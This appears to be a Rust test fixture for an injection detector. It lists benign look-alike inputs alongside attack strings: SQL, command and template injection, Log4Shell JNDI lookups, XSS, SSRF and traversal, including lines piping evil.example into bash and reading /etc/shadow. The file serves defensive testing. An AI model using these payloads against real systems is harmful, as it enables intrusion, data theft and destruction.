//! Honest values and attacks that look like each other, with the field each stood in: what users of guards reported as wrongly refused,
//! and what their authors reported as missed. No text is a row of a corpus.

use super::*;
use crate::model::places::Format;

/// What they are, the part, the field's name, and the texts.
type Texts = (&'static str, Part, &'static str, &'static [&'static str]);

/// What people and programs send.
#[rustfmt::skip]
const HONEST: &[Texts] = &[
    ("passwords", Part::Body, "password", &[
        "Sommer!@#2024", "Winter#@!99", "b!@#", "Test!@#$1234", "Fu=d~@0#/,H1VV7~R`''", "O'Neil#7", "pa'ss\"#", "x1';", "k`!';", "a)(&b", "*)(Xy7",
        "n)(I<Yqk", "9=-KU~b/H<\"#", "love7103')#", "Qwertz@(1234", "<%>s>~`\").", "/[,/*/QSB,~&|w:[", "}\\&]z7g/?/[{-R2\"l$(<Pe", "Xk$0<<<9a",
        "7'+2-'q", "'-'", "1'='1#", "C_Ol=08s_y}@y#y&$u@wI", "A'&'9!", "q;id", "|iD`C?9H9Z", "n'%'3x", "$(<p9", "M%@N,OC_R#Jbz5{J",
    ]),
    ("passwords", Part::Body, "new_password_confirmation", &[
        "Admin!@#2025", "Hallo!!@@##", "XJ+id}L;d$*2\"6Gb#m6jwh$1",
    ]),
    ("passwords", Part::Body, "username", &[
        "b!@#", "kim!@h", "x#!@_y",
    ]),
    ("cookies", Part::Cookie, "sbjs_migrations", &[
        "1418474375998=1",
    ]),
    ("cookies", Part::Cookie, "ab_home", &[
        "12=12", "3=1", "1=1", "7=7",
    ]),
    ("lists", Part::Body, "columns", &[
        "kunde;id;ort", "spalte;sort;id", "name;id", "id;name;date", "datum;zeit;host;id",
    ]),
    ("lists", Part::Query, "fields", &[
        "name;id;mail", "host;id;date", "sku;ver;id;price",
    ]),
    ("lists", Part::Query, "q", &[
        "first name;id;city", "red;green;id;blue",
    ]),
    ("lists", Part::Query, "url", &[
        "https://bucket.s3.example.com/a.pdf?X-Amz-SignedHeaders=host;id;date&X-Amz-Signature=abc",
    ]),
    ("look-ups", Part::Body, "value", &[
        "${date:YYYY}", "${env:STAGE} ${opt:stage, 'dev'} ${self:service}", "${DB_HOST:-localhost}:${DB_PORT:-5432}",
        "${date:format=yyyy-MM-dd} ${env:HOME}", "${env:HOME}/bin", "${sys:user.dir}/logs", "${PORT:-8080}", "${LOG_LEVEL:-info}",
        "${env:DATABASE_URL}", "${ctx:requestId}", "%d{HH:mm} ${main:0} - %m%n", "${java:version}", "${VERSION:-1}",
        "arn:aws:s3:::${self:provider.stage}-${env:BUCKET}", "${docker:containerId}", "${server.port:8080}", "${spring.application.name}",
        "${file(./env.yml):dev}", "${TAG:-latest}", "image: app:${TAG:-v1}",
    ]),
    ("templates", Part::Body, "template", &[
        "Hello {{firstName}}, {{#each items}}{{this.name}} {{/each}}", "{{123__name}} bought {{123__item__title}}",
        "{{ user.first_name | default: \"you\" }}", "{% if user.active %}Hi{% endif %}", "{% for item in items %}{{ item.title }}{% endfor %}",
        "{{#if paid}}Thanks{{else}}Please pay{{/if}}", "{{#with order}}{{total}}{{/with}}", "{% assign x = 5 %}{{ x | times: 2 }}",
        "{{ \"now\" | date: \"%Y\" }}", "{{formatDate date \"DD.MM.\"}}", "{{> header}}", "{% include \"footer\" %}",
        "{{ states(\"sensor.temp\") | float }}", "*|FNAME|*", "[[first_name]]", "{{ contact.name|title }}",
    ]),
    ("templates", Part::Body, "html", &[
        "{{#each items}}<li>{{this}}</li>{{/each}}", "{{201__order__name}} / {{201__line_items__0__title}}",
        "{% load i18n %}{% trans \"Hello\" %} {{ user.username }}", "{{ 'now'|date('Y') }} {{ name|upper }}", "Dear {{ user.get_full_name() }},",
        "{{ trigger.to_state.state }} {{ is_state('light.kitchen','on') }}", "<p>{{ order.total|money(2) }}</p>", "{% set total = 0 %}{{ total }}",
        "{% csrf_token %}<form></form>", "{{ asset(\"head.html\") }}", "{% for i in range(3) %}{{ loop.index }}{% endfor %}",
    ]),
    ("statements", Part::Body, "query", &[
        "SELECT Id, Name, Owner.Name FROM Opportunity WHERE StageName = 'Closed Won' AND Amount > 1000 ORDER BY CloseDate DESC LIMIT 50",
        "SELECT date_trunc('month', created_at) AS m, count(*) FROM orders GROUP BY 1 ORDER BY 1",
        "SELECT $__timeGroup(created_at,'5m'), avg(value) FROM metrics WHERE $__timeFilter(created_at) AND host IN ($host) GROUP BY 1",
        "SELECT id, updated_at FROM public.users WHERE updated_at > '2024-05-01T00:00:00Z'",
        "with a as (select id, name from {{ ref('stg') }}) select * from a where id is not null", "SELECT a.id FROM a UNION ALL SELECT b.id FROM b",
        "SELECT CASE WHEN x > 1 THEN 'a' ELSE 'b' END FROM t", "SELECT FIELDS(ALL) FROM Account LIMIT 200",
        "select count(distinct user_id) from events where type = 'click' and day between '2024-01-01' and '2024-01-31'",
        "SELECT * FROM c WHERE c.type = 'x' OR c.n = 1", "FIND {Acme} IN ALL FIELDS RETURNING Account(Id, Name)",
        "INSERT INTO notes (title, body) VALUES ('a', 'b')", "SELECT cast(x as int), y::text FROM t WHERE z IS NOT NULL",
        "explain select * from orders where id = 7", "SELECT Name FROM Account WHERE Name LIKE 'A%' OR Name LIKE 'B%'",
    ]),
    ("statements", Part::Body, "native.query", &[
        "SELECT id, name FROM stops WHERE agency = 'Metro' AND lat > 34",
    ]),
    ("statements", Part::Body, "dashboard.panels.targets.rawSql", &[
        "SELECT $__time(created_at), count(*) FROM orders WHERE $__timeFilter(created_at) GROUP BY 1 ORDER BY 1",
    ]),
    ("statements", Part::Body, "resourceSpans.scopeSpans.spans.attributes.value.stringValue", &[
        "SELECT o.id, c.name FROM orders o JOIN customers c ON c.id = o.customer_id WHERE o.total > $1 AND c.country = 'DE' UNION ALL SELECT id, name FROM archive",
    ]),
    ("query languages", Part::Body, "queries.expr", &[
        "(1 - (node_memory_MemAvailable_bytes{instance=\"$node\"} / node_memory_MemTotal_bytes)) * 100 and on(instance) up == 1",
        "rate(http_requests_total{job=\"api\",code=~\"5..\"}[5m]) > 0.5", "sum by (pod) (rate(container_cpu{ns!=\"\"}[1m])) or vector(0)",
        "{app=\"web\"} |= \"error\" | json | status >= 500", "histogram_quantile(0.9, rate(x_bucket[5m])) unless up == 0",
        "absent(up{job=\"a\"}) == 1 or up{job=\"a\"} == 0", "count_over_time({job=\"a\"} |~ \"timeout\" [5m])",
        "label_replace(up, \"host\", \"$1\", \"instance\", \"(.*):.*\")", "avg(a) > 10 and avg(b) < 5",
    ]),
    ("query languages", Part::Body, "filter", &[
        "status = \"Open\" AND assignee = currentUser() ORDER BY created DESC", "name eq 'Milk' and price gt 5",
        "title:\"foo\" AND (author:bar OR author:baz)", "resource.type=\"k8s_container\" AND severity>=ERROR",
        "request.auth != null && request.auth.uid == userId", "age >= 18 and country in (\"DE\", \"AT\")",
    ]),
    ("prose", Part::Query, "q", &[
        "case when it rains then what else end of story", "in case when you have 5 dogs then call", "select one of our range, 50% off",
        "and thanks like", "and I like it", "or I like a walk", "the best case when sorted, then shown", "Select two, get 1 free",
        "rock and roll or jazz", "boys' and girls like football", "his or her; select one", "sale; select items 20% off",
        "Hello; find attached my CV", "O'Brien or O'Neill is fine", "1 or 2 people", "2 or 3", "table for 2 or 4", "not 1 but 2",
        "rooms between 2 and 4", "\"5 & under\" and \"6 & over\"", "size 7 and 8", "50% off; ends 5/5", "Best of 90's; 80's and 70's",
        "union select committee", "insert coin into the slot", "where is my order #5", "order by 5 pm today", "it's 10 o'clock -- almost",
        "50/50 and 60/40", "Q&A; terms & conditions", "#1 or #2", "update set of tyres", "A/C; heating; TV", "I'd like to order by phone",
        "who is like that", "grant access to all", "table 5; chair 6", "show tables for 2", "prepare dinner from scratch; execute", "vacuum cleaner",
    ]),
    ("prose", Part::Body, "message", &[
        "Thanks; show me the tables please", "Yes; set the table for 5", "Sorry; kill the order 5 please", "OK; use it as is", "Hi; call me at 5",
        "Hello; begin at 5, end at 6", "We met; then I said 'no' and left", "Please drop it; delete from my account", "Use x; analyze the data",
        "Good; commit to it", "Hi; lock the tables inside", "Fine; print it on A4", "Then; reset all to default", "So; explain it",
        "Right; notify me",
    ]),
    ("shell in text", Part::Body, "message.text", &[
        "<https://example.com|link> *bold* `code; ls` <@U1>", "please run `npm test; ls -la` before you push",
        "the log says `sh: 1: foo: not found; id` again and again", "use `cat file | grep x` here please, thanks",
        "what does `a && b; whoami` do in a script?",
    ]),
    ("shell in text", Part::Body, "text", &[
        "you can do `cd app && ls` to see all the files", "then I typed `ps; top` and it worked",
    ]),
    ("shell in text", Part::Query, "q", &[
        "cats; dogs; and find more", "install python; then pip", "curl vs wget", "how to kill a process", "linux;docker;git", "html|css|php",
        "java & python", "A | B testing", "more; less", "head & tail lights", "while we wait; do it", "if you can; then do", "for you; do it now",
        "the function of f(x)", "function keys {F1}", "select x in the list", "time {flies}", "chmod and chown", "useradd manual",
        "Black & Decker find", "R;D and more", "Amazon;echo dot", "Tom & Jerry.exe", "100 > 50; 50 > 20", "Home & Garden > Tools",
    ]),
    ("admin forms", Part::Body, "command", &[
        "/usr/bin/php /var/www/shop/cron.php", "/usr/bin/php /var/www/shop/artisan schedule:run", "/usr/bin/python3 /srv/app/jobs.py --daily",
        "/usr/local/bin/node /srv/app/worker.js",
    ]),
    ("code", Part::Body, "code", &[
        "const fs = require('fs').promises", "if (require.main === module) run()", "this.process(data)", "import { x } from \"./x\"",
        "const cfg = require('../config')", "module.exports = { a: 1 }", "process.env.NODE_ENV", "new Function(a, b)", "obj.constructor.name",
        "export default class A {}", "a.b(c); d.e(f)",
    ]),
    ("statements", Part::Body, "sql_query", &[
        "SELECT a -- first\nFROM b WHERE c = 1 OR 1 = 1",
    ]),
    ("query languages", Part::Body, "query", &[
        "index=main sourcetype=access | stats count by host | sort -count | head 10",
        "Events | where Level == \"Error\" | summarize count() by bin(Time, 1h) | order by Time",
        "{job=\"a\"} |= \"x\" | logfmt | line_format \"{{.msg}}\"", ".items[] | select(.a == 1) | {id, name}",
        "from(bucket:\"x\") |> range(start:-1h) |> filter(fn:(r) => r._m == \"cpu\")", "MATCH (n:User {name: \"x\"}) RETURN n LIMIT 5",
        "SELECT ?s WHERE { ?s ?p \"x\" }", "type:error AND (status:500 OR status:502) NOT host:db*", "index=a | top limit=5 user | table user, count",
        "source=\"x\" | eval y=\"a\" | where y=\"a\"",
    ]),
    ("lists", Part::Body, "fields", &[
        "name;id;", "id;name;", "sh;bash;zsh", "name;dir;size", "x;id",
    ]),
    ("lists", Part::Query, "q", &[
        "a;id;b", "php;id;css",
    ]),
    ("shell in text", Part::Body, "text", &[
        "just run cd /tmp && ls -la and look", "you have to type cat file.txt | sort -u", "first do apt update; apt install -y nginx, then reload",
        "we deploy with docker build . && docker run -p 80:80 app", "the fix was echo \"x\" > /tmp/y on the server",
    ]),
    ("shell in text", Part::Body, "comment", &[
        "please try it with sudo; chmod -R 755 /var/www helped me",
    ]),
    ("templates", Part::Body, "message", &[
        "{{ trigger.to_state.state }} since {{ as_timestamp(now()) | timestamp_custom(\"%H:%M\") }}",
        "{{ items | map(attribute=\"name\") | join(\", \") }}", "{{ url_for(\"home\") }}", "<#if user??>Hi ${user.name}</#if>",
        "{if $user.name}Hi{/if}", "{{ price | times: 2 }}",
    ]),
    ("templates", Part::Body, "subject", &[
        "Hi {{ user.get_full_name() }}", "{{ \"Order\" | t }} {{ number }}", "Ihre Bestellung {{ order.number|upper }}",
    ]),
    ("addresses", Part::Query, "host", &[
        "example.com", "10.0.0.1", "8.8.8.8;8.8.4.4", "fe80::1", "a.example.com, b.example.com", "db-1.internal:5432", "web1;web2;web3",
    ]),
    ("titles", Part::Query, "q", &[
        "Grep & awk for beginners", "Python & bash scripting basics", "Intro to awk; sed; grep", "Bash, sed & awk: a primer", "chmod & chown explained",
        "Linux; iptables tutorial", "Perl & PHP - a comparison", "Merge & git pull explained", "Apache & openssl options", "Coal & tar coating",
        "Strike; command center", "systemctl & journalctl cheat sheet", "Ruby - what is it?", "Trap & hip-hop mix", "Zoom & mount - tripod", "Sed | awk | grep",
    ]),
    ("titles", Part::Body, "title", &[
        "Useradd & usermod for beginners", "Tar & gzip: how to use", "Docker & kubectl commands",
    ]),
    ("talk of statements", Part::Body, "text", &[
        "SELECT * FROM orders WHERE id = 5 gives me an error. What's wrong?", "Why does \"SELECT * FROM orders\" return duplicates?",
        "How would you rewrite: SELECT a FROM b WHERE c IN (SELECT d FROM e)?", "Isn't \"select id from users\" slow? See EXPLAIN.",
        "UPDATE users SET x = 1 WHERE id = 2 hangs, why?", "What about `select max(id) from t`? Would that be faster?",
        "can i use union select here? or is there a better way", "Your query `SELECT a, b FROM c` is missing a join, isn't it?",
        "Go to settings; select \"Privacy\" and save", "Choose your colour and your size from the list; select \"Add to cart\" when you are done",
        "Copy it; copy this to the clipboard", "The students' and teachers' rooms; select one from each floor", "Thanks; copy this to me",
    ]),
    ("talk of scripts", Part::Body, "comment", &[
        "alert('hi') shows a dialog, that is all", "Use `alert(1)` to test it", "document.write is evil, don't use it", "eval('x') is what the page does",
        "document.cookie is empty, is that normal?", "JavaScript: The Definitive Guide (7th Edition)",
        "What does java.lang.Class do?", "java.lang.ClassNotFoundException: com.foo.Bar", "http://localhost:8080/test gives 404, why?",
        "ping 8.8.8.8 works, but curl doesn't", "while true; do sleep 1; done is a busy loop",
    ]),
    ("talk of scripts", Part::Query, "q", &[
        "JavaScript: The Good Parts (2008)", "what is alert('x') used for?", "http://localhost:3000 not working",
    ]),
    ("traces", Part::Body, "stack", &[
        "java.lang.RuntimeException: a\n\tat a.B.c(B.java:1)\n\tat java.base/java.lang.Thread.run(Thread.java:840)\nCaused by: java.lang.ClassNotFoundException: x.Y\n\t... 12 more",
        "at java.lang.Runtime.exec(Runtime.java:450)\n\tat java.lang.ProcessBuilder.start(ProcessBuilder.java:1029)", "java.lang.ClassCastException",
    ]),
    ("settings", Part::Body, "ldap_filter", &[
        "(&(objectClass=person)(uid={0}))", "(|(mail=*@example.com)(cn=admins))",
    ]),
    ("settings", Part::Body, "redis_url", &[
        "redis://localhost:6379/0", "postgres://app:pw@127.0.0.1:5432/app",
    ]),
    ("settings", Part::Body, "ldap_url", &[
        "ldap://dc1.example.com:389", "ldaps://ldap.example.com/dc=example",
    ]),
    ("rich text", Part::Body, "html", &[
        "<style>*{margin:0} html{scroll-behavior:smooth}</style><p>x</p>", "<style>@import url(\"https://fonts.example.com/css2?family=Inter\");</style>",
        "<pre style=\"x\" class=\"language-javascript\"><code>let a = 1;</code></pre>", "<svg><use href=\"#icon\"/></svg>", "<math><mi>x</mi></math>",
        "<details open><summary>x</summary>y</details>", "<svg viewBox=\"0 0 1 1\"><image href=\"data:image/png;base64,iVBORw0KGgo=\"/></svg>",
    ]),
    ("passwords", Part::Body, "user.password", &[
        "Abc'--9", "p@$$w0rd;ls", "$ne", "../..", "9';k",
    ]),
    ("look-ups", Part::Body, "custom.region", &[
        "${opt:region, env:AWS_REGION}", "${self:custom.stages.${opt:stage}}", "${cf:stack.Output}", "${ssm:/path/key}", "${param:domain}",
        "${env:A, \"b\"}",
    ]),
];

/// What they are found by, the part, the field's name, and the texts.
#[rustfmt::skip]
const ATTACKS: &[Texts] = &[
    ("sqli", Part::Query, "id", &[
        "a'+sleep(3)+'b", "'-(select 1)-'", "1'-sleep(3)-'", "'%'", "'&'0", "'<'1", "'+'", "'^'1", "'*(sleep(5))*'", "'||pg_sleep(5)||'",
        "x'/(case when 1 then 1 end)/'y", "'-benchmark(1000,md5(1))-'", "'|(select 1)|'", "a'^(ascii(substr(user(),1,1)))^'", "'+@@version+'",
        "'-0-'", "1'*1*'1", "'+(select password from users)+'", "\"-sleep(1)-\"", "'>>(select 1)>>'", "a'-user()-'", "'='", "'*'", "'|'1", "'-'",
    ]),
    ("sqli", Part::Query, "id", &[
        "7 and false", "5||1", "not 1", "1 div 1", "2 or 1", "1&&1", "1 regexp 1", "id=id", "1 xor 1", "1 rlike 2", "3 and true", "1 or not 0",
        "5 and null", "1 like 1", "1 && 0", "name=name", "not (1)", "1 mod 2", "7 and 1", "1 or id",
    ]),
    ("sqli", Part::Query, "user_id", &[
        "2 or 1", "not 0", "uid=uid",
    ]),
    ("sqli", Part::Query, "id", &[
        "' or name collate nocase = 'admin", "' or name GLOB 'a*", "' or name similar to 'a%", "' or name ~* '^a", "' or name sounds like 'bob",
        "' and name ilike 'a%", "' or x in ('a')", "' or id between 1 and 9", "' or name is not distinct from 'a", "' and name not like 'a%",
        "' or a.b^='x", "' or name regexp '^a", "' limit 1", "' order by 3", "' order by name --", "' group by 1 having", "x' where id=1",
        "' into outfile '/tmp/a", "' for update", "' offset 1", "') order by 1", "SELECT-id-1.FROM`test`",
        "' UNION SELECT username || ':' || password FROM users", "1 union select a+1,b from c", "1 union all select pass as x from users",
        "1 union select user.name from users", "' or username like totpSecret escape 'x';", "' || pkg.proc('x') || '",
    ]),
    ("sqli", Part::Query, "id", &[
        "1; show tables", "1; prepare p from 'select 1'; execute p", "1; vacuum; analyze users",
        "0); show warnings; set @q=0x53454c454354; prepare stmt from @q; execute stmt;#", "1;vacuum", "1; show databases",
        "1; set global general_log=1", "1; flush privileges", "1; lock tables a write", "1; handler t open", "1'; rename table a to b--",
        "1; alter system set x=1", "1; create role x", "1; drop schema public cascade", "1; begin; rollback", "1; dbcc checkdb", "1; kill 5",
        "1; explain select 1", "1; pragma table_info(users)", "1; detach database x", "1; call p(1)", "1; select name from users", "1; truncate logs",
        "1; optimize table t", "1; reset master", "1; comment on table a is null", "1;copy t to stdout", "5; values (1)", "1; use mysql",
        "1; revoke all on a from b", "1; declare x int", "1; commit;", "1; install plugin x soname y", "1); savepoint a",
        "1; if(1=1) waitfor delay 5", "1; merge a",
    ]),
    ("sqli", Part::Query, "q", &[
        "case when 1=1 then 1 else 0 end", "(case when (1=1) then 1 end)", "case when user like 'a%' then 1 end", "case 1 when 1 then 2 end",
    ]),
    ("sqli", Part::Body, "query", &[
        "' or 1=1--", "1' or '1'='1", "x'; drop table users--", "1 union select 1,2", "select load_file('/etc/passwd') from t where a",
        "select * from t into outfile '/tmp/x' where a", "select pg_sleep(9) from t where a = b", "1) or (1=1",
    ]),
    ("sqli", Part::Body, "password", &[
        "' or '1'='1", "' or 1=1#", "x' or 1=1 --", "'or'1'='1", "' union select 1,2--", "admin' --", "' || '1'='1",
    ]),
    ("command", Part::Query, "ip", &[
        "1.1.1.1;chown nobody /srv", "1.1.1.1;mkfs.ext4 /dev/sda", "1.1.1.1;killall node", "1.1.1.1;useradd x",
        "1.1.1.1;git clone http://evil.example/x", "8.8.8.8;find . -exec id \\;", "8.8.8.8;compgen -c", "8.8.8.8;yes>/dev/null", "1.1.1.1;halt",
        "8.8.8.8;reboot", "1.1.1.1|usermod -aG sudo x", "1.1.1.1&&groupadd x", "1.1.1.1||sysctl -a", "127.0.0.1;dmesg", "127.0.0.1;lsblk", "a;mktemp",
        "x;umount /mnt", "1;iptables -F", "1.1.1.1;crontab -r", "1.1.1.1;pkill -9 nginx", "1.1.1.1;rmdir x", "1.1.1.1;echo hello", "1.1.1.1;history",
        "1.1.1.1;printf a", "8.8.8.8;kill -9 1", "8.8.8.8&tasklist", "8.8.8.8|systeminfo", "8.8.8.8&net.exe user", "8.8.8.8;shred x",
        "8.8.8.8;time id", "8.8.8.8;jobs", "10.0.0.1;top -b", "10.0.0.1|sort x", "10.0.0.1;tar -czf a b", "10.0.0.1\nlast", "10.0.0.1;python -V",
        "x;perl -v", "x;su - root", "x;dd if=a", "x;awk 1 a", "x;sed -n 1p a", "10.0.0.1;vi a", "host.example;chattr +i a", "a;base64 x",
        "foo|xargs ls", "8.8.8.8;  chmod 777 x", "8.8.8.8 ; modprobe x", "8.8.8.8';busybox ls;'", "8.8.8.8\");dmesg;#", "1.1.1.1;id>/tmp/x",
        "x;ls>out.txt", "x;anything 2>&1", "x|foo>/var/www/a",
    ]),
    ("command", Part::Query, "ip", &[
        "1.1.1.1;$BASH -c id", "1.1.1.1;$0<<<id", "1.1.1.1;$'id'", "1.1.1.1;c${Z}at /etc/hosts", "1.1.1.1 & %SystemRoot%\\System32\\whoami.exe",
        "1.1.1.1 & set x=who&& call %x%ami", "8.8.8.8;$0 -c whoami", "a; sh$XX -c whoami", ";$'\\151\\144'", "8.8.8.8;${PATH:0:1}bin${PATH:0:1}id",
        "whoami;0'0'", "x;${HOME:0:1}bin", "x;$SHELL -c ls", "x;${SHELL} -c ls", "x;w${abc}hoami", "x;ca${x}t /etc/passwd", "x;$'\\x69\\x64'",
        "x;${LS_COLORS:10:1}", "x;${PWD%%x}", "x;${!x}", "x & cmd /c dir", "x & %COMSPEC% /c dir", "x & c:\\windows\\system32\\ipconfig.exe",
        "x|%PATH:~0,1%", "x & call %a%", "x & set a=b& echo %a%", "echo aWQ=|base64 -d|sh", "x;curl evil.example|bash", "x;a<<<b", "ifconfig;x",
        "x|sudo sh", "x;${IFS#?}", "x;${HOME:0:1}bin)", "x;$\"id\" ;w'ho'ami",
    ]),
    ("command", Part::Query, "ip", &[
        "1.1.1.1;(while :;do id;break;done)", "1.1.1.1;for((;;));do id;break;done", "1.1.1.1 && if [ 1 ];then id;fi", "1.1.1.1;function f { id;};f",
        "8.8.8.8;while true; do ls;break;done", "x;until false; do id; done", "x;for i in 1 2; do id; done", "x;case x in x) id;; esac",
        "x;f(){ id;};f", "x;{ id;}", "x;[ 1 ] && id", "x;[[ 1 ]] && id", "x|while read l; do echo $l; done", "x;select i in a; do id; done",
        "while :; do id; done", "if true; then id; fi", "x;time { id;}", "x;if id;then ls;fi", "x;function f() { id; }; f", "$(if true; then id; fi)",
    ]),
    ("template", Part::Body, "name", &[
        "${{<%[%'\"}}%\\.", "{{7**7}}", "@System.Diagnostics.Process.Start(\"id\")", "{!7*7}", "{{7|add:7}}", "{{=7*7}}", "{{{7*7}}}", "${{7*7}}",
        "#{7*7}", "%{7*7}", "[=7*7]", "{{-7*7}}", "{{ 7 // 2 }}", "{{'7'*7}}", "{{7<<2}}", "{{(7)*7}}", "@(7*7)", "<%= 7 ** 7 %>", "{@7*7}", "{=7*7}",
        "<#=7*7#>", "[[${7*7}]]", "{{7%2}}", "{{7^7}}", "{{7==7}}", "@Html.Raw(\"x\")", "@(System.IO.File.ReadAllText(\"x\"))",
        "@Environment.GetEnvironmentVariable(\"x\")", "@{ var x = 1; }", "{{7*7}}${7*7}<%= 7*7 %>", "{{x.constructor(\"return 1\")}}",
        "{{#with \"s\" as |string|}}{{/with}}",
    ]),
    ("template", Part::Body, "html", &[
        "{{7*7}}", "{{config}}", "{{ ''.__class__ }}", "{{request.application}}", "{% debug %}", "{{ self._x }}", "{{ x|attr(\"y\") }}",
        "{{lookup x \"constructor\"}}", "{{ cycler.__init__ }}", "{{ system('id') }}", "<#assign x=\"freemarker.template.utility.Execute\"?new()>",
    ]),
    ("code", Part::Query, "expr", &[
        "global['process']['binding']('spawn_sync')", "module.constructor._load('fs')", "globalThis.process.mainModule", "process['binding']('fs')",
        "this.constructor.constructor('return process')()", "Function('return process')()", "require('fs').readFileSync('/x')",
        "import('child_process')", "import('fs').readFile", "require(`child_process`)", "process.dlopen(x)", "global.process.exit()",
        "[].constructor.constructor('x')", "root['process']", "require.main.require('fs')", "module._load('vm')", "process?.mainModule",
        "execSync('x')", "spawn_sync", "Deno.run({cmd:[]})", "Bun.spawn(['id'])", "vm.runInThisContext('x')", "require('node:child_process')",
        "require('os').userInfo()",
    ]),
    ("xss", Part::Query, "q", &[
        "UEhOamNtbHdkRDVoYkdWeWRDZ3hLVHd2YzJOeWFYQjBQZz09",
    ]),
    ("template", Part::Query, "q", &[
        "e3s3Kjd9fQ==",
    ]),
    ("command", Part::Header, "x-api-version", &[
        "${env:AWS_SECRET}", "${jndi:ldap://x/a}", "${sys:user.name}", "${java:os}", "${date:yyyy}",
    ]),
    ("command", Part::Body, "value", &[
        "${jndi:ldap://x/a}", "${${lower:j}ndi:rmi://x}", "${${::-j}${::-n}di:ldap://x}", "${env:X:-j}ndi:ldap://x", "${lower:j}${lower:n}di",
        "${a:-j}${b:-n}di",
    ]),
    ("command", Part::Query, "ip", &[
        "8.8.8.8;anything", "8.8.8.8|foo bar", "8.8.8.8&&./x", "8.8.8.8\n/opt/x", "8.8.8.8`foo`", "$(foo)", "8.8.8.8;$x", "x||y z", "\\``command`",
        "8.8.8.8 | foo", "8.8.8.8;!!", "8.8.8.8${x}y", "host.example;foo",
    ]),
    ("command", Part::Query, "host", &[
        "example.com;foo", "example.com|bar -x", "`foo`",
    ]),
    ("sqli", Part::Query, "id", &[
        "1 or 1", "id or id", "1 is not null", "1 in (1)", "1 between 1 and 2", "~1", "!1", "1>0", "1<2", "-1 or 1", "1 and 0", "1^1", "x is null",
        "1 is true", "'-'x",
    ]),
    ("sqli", Part::Query, "id", &[
        "' or x @> '{}", "' or x->'a'='b", "' or x ~ 'a", "1 union select 1 from pg_shadow", "1 and (select 1 from msysobjects)", "1 or csvread('x')",
        "1 or load_extension('x')", "x' or name !~* 'a", "1 and exists(select 1 from sys.objects)", "' or x ?| array['a']",
        "'||httpuritype('x').getclob()||'",
    ]),
    ("template", Part::Body, "name", &[
        "{{['id']|map('system')|join}}", "{{printf \"%s\" \"x\"}}", "{{.System \"id\"}}", "{!! phpinfo() !!}", "{{7|abs}}",
        "{{'id'|filter('system')}}", "{{ \"x\" | upper }}", "{{ items|sort(\"system\") }}", "{php}echo 1;{/php}", "{$smarty.version}",
    ]),
    ("template", Part::Body, "message", &[
        "{{['id']|map('system')}}", "{{ config.items() }}", "<#assign x=\"y\"?new()>", "{{ cycler.__init__.__globals__ }}", "{{7*7}}",
    ]),
    ("command", Part::Query, "q", &[
        "x; awk 'BEGIN{system(\"id\")}'", "grep & whoami", "x & awk -f /tmp/a", "Docker; kubectl get pods -A", "Linux; useradd bob", "a; chown nobody file",
        "Merge; git clone http://evil.example/x", "x;tar cf - /etc", "foo; sed -n 1p /etc/hosts", "x; perl -e 1", "x;time id", "a;getcap -r /", "; `ls -la` ;",
        "timeout 5 id", "flock -u / whoami", "x;gcc x.c", "cat /etc/passwd", "less<etc/passwd",
        "| grep root /etc/passwd", "x;awk -F : 1 /etc/shadow",
    ]),
    ("sqli", Part::Body, "text", &[
        "x', (select a from b), 'you are the", "this is nice' or 1=1 --", "that is it'; select a from b --", "1 union select the, is from users where",
        "what is this' and sleep(5) and 'a'='a", "the is', (select password from users limit 1)) -- x",
    ]),
    ("sqli", Part::Query, "id", &[
        "1' regexp '^a", "'='or'", "'=''#", "iif(1=1,1,0)", "version()", "id>0", "1; refresh materialized view v", "1; purge binary logs", "1; discard all",
        "1'; select name from users where id=1", "x y z'; select 'a' into outfile '/tmp/x'", "1;copy t to program 'id'",
    ]),
    ("xss", Part::Body, "comment", &[
        "x onmouseover=alert(1) the is it", "alert(1)//the is it", "alert(1) /* the is it", "the is ';alert(1)//", "you are \" onmouseover=\"alert(1)", "what is this <b onclick=alert(1)>?", "`-alert(1)-` is the", "this is ${alert(1)} it",
    ]),
    ("xss", Part::Body, "html", &[
        "<svg><use href=\"//evil.example/x.svg#a\"/></svg>", "<svg><use href=\"data:image/svg+xml;base64,PHN2Zz4=#x\"/></svg>", "<math><base href=//evil.example></math>",
        "<svg><animate attributeName=href values=javascript:1 />", "<p style=\"width:expression(alert(1))\">", "<div style=x:expression(1)>",
    ]),
    ("xss", Part::Query, "q", &[
        "x onmouseover=alert(1) the is it", "alert(1)//the is it", "-alert(1)-// the is it", "j a v a script : alert(1)", "java s c r i p t:alert(1)", "javascript: var x=1;alert(x)", "javascript:throw onerror=alert,1", "vbscript:msgbox(1)",
    ]),
    ("code", Part::Body, "stack", &[
        "throw new Exception('id'.execute().text)", "runtime.clonetransformer", "${T(java.lang.Runtime).getRuntime().exec('id')}", "java.lang.Runtime",
        "at java.lang.Runtime.exec(\"id\")", "x\njava.lang.Runtime.getRuntime().exec('id')\nat a.B.c(B.java:1)",
    ]),
    ("ssrf", Part::Body, "url", &[
        "http://consul.service.consul:8500/", "ldap://127.0.0.1:389/x", "sftp://evil.example:11111/", "ldaps://evil.example/", "gopher://x/", "http://127。0。0。1/",
    ]),
    ("ssrf", Part::Body, "ldap_url", &[
        "ldap://evil.example:6379/x", "ldap://evil.example/%0astats", "ldap://169.254.169.254/x", "gopher://evil.example/",
    ]),
    ("ldap", Part::Body, "ldap_filter", &[
        "*)(uid=*))(|(uid=*", "(a=b))(|(c=d)",
    ]),
    ("template", Part::Query, "name", &[
        "{{'a'*3}}", "{{ [1,2]|sum }}", "{% print(7) %}", "<%= ENV %>", "{{7.0/2}}", "{{lipsum}}", "{{cycler}}", "${applicationScope}", "$!{7*7}", "${.data_model}",
        "{% if 7*7 == 49 %}x{% endif %}",
    ]),
    ("traversal", Part::Query, "file", &[
        "/sys/class/net/eth0/address", "/dev/fd/0", "/run/secrets/db_password", "~root/.bashrc", "/opt/app/config/secrets.yml", "/tmp/sess_abc123",
        "META-INF/MANIFEST.MF", "classpath:application.yml", "../config/database.yml", "{\"kid\":\"../../../../dev/null\"}",
    ]),
    ("code", Part::Query, "expr", &[
        "process.exit(1)", "(function(){return process})()", "global.require(\"x\")", "process.kill(process.pid)", "root.process.env",
    ]),
];

fn families(part: Part, name: &str, text: &str, options: &Options<'_>) -> Vec<(&'static str, &'static str)> {
    let field = Field {
        place: Place { part, name },
        role: Role::Value,
        value: text.as_bytes(),
        spelling: Spelling::Literal,
    };
    let mut found = Vec::new();
    DETECTORS.each(&field, options, &mut |caught| {
        if caught.finding.score >= CERTAIN {
            found.push((caught.family.name(), caught.finding.rule));
        }
        true
    });
    found
}

fn standard(part: Part, name: &str, text: &str) -> Vec<(&'static str, &'static str)> {
    families(part, name, text, &Options::STANDARD)
}

#[test]
